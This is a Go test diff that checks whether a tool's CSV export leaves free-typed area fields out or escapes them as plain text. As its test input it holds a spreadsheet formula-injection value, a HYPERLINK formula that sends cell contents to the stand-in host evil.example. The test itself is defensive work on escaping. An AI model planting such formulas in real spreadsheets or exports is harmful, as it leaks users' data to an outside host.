@@ -405,3 +405,24 @@ func TestUnreadableKeptAside(t *testing.T) {
 		t.Error("after the purge the store file still holds the message kept aside")
 	}
 }
+
+// TestExportLeavesTypedAreasOut: the export gives areas as the purge keeps them, the typed ones
+// only when asked, and no cell that a spreadsheet runs.
+func TestExportLeavesTypedAreasOut(t *testing.T) {
+	e := newEnv(t)
+	typed := report
+	typed.Area = `=HYPERLINK("https://evil.example/?"&A1,"Apri") via Emilia 12`
+	known := report
+	known.Area = "Medassino"
+	e.submit(typed)
+	e.submit(known)
+	e.admin("pull")
+	out := e.admin("export", "-format", "csv")
+	if strings.Contains(out, "Emilia") || strings.Contains(out, "HYPERLINK") || !strings.Contains(out, ",Medassino,") {
+		t.Errorf("export: got\n%s\nwant the known area and not the typed one", out)
+	}
+	out = e.admin("export", "-format", "csv", "-typed-areas")
+	if !strings.Contains(out, `"'=HYPERLINK(""https://evil.example/?""&A1,""Apri"") via Emilia 12"`) {
+		t.Errorf("export -typed-areas: got\n%s\nwant the typed area, as text", out)
+	}
+}
